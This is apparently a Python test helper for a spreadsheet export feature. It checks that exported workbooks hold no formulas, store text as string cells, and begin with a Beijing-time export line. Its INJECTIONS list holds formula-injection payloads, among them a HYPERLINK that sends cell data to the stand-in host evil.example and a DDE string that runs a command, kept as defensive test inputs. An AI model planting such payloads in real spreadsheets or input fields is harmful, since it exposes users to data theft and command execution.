"""Test helper: read a workbook the way an attacker's victim would open it — formulas included."""

from __future__ import annotations

import io
import zipfile
from typing import Any
from xml.etree import ElementTree

from openpyxl import load_workbook

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def formula_free_rows(content: bytes) -> list[list[Any]]:
    """Assert that no worksheet holds a formula (an ``<f>`` element) and every text cell is a string
    cell; return the first sheet's rows as openpyxl reads them back."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets, archive.namelist()
        for name in sheets:
            root = ElementTree.fromstring(archive.read(name))
            assert root.find(f".//{MAIN}f") is None, f"a formula in {name}"
            for cell in root.iter(f"{MAIN}c"):
                assert cell.get("t") in ("inlineStr", "s", "n", "b", "d", None), ElementTree.tostring(cell)
    book = load_workbook(io.BytesIO(content))
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


def as_read_back(text: str) -> str:
    """What an XML reader gives back for ``text``: XML turns a carriage return into a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def document_rows(content: bytes) -> list[list[Any]]:
    """Assert what every export is (formula-free; a first line saying who exported which filter when; the
    header below it frozen and filtered); return the header and the rows below it."""
    from weijian.core.xlsx import EXPORT_LINE_PREFIX

    rows = formula_free_rows(content)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    line, *rest = rows
    assert isinstance(line[0], str) and line[0].startswith(EXPORT_LINE_PREFIX) and "北京时间" in line[0], line
    assert sheet.freeze_panes == "A3" and (sheet.auto_filter.ref or "").startswith("A2:"), sheet.auto_filter.ref
    return rest
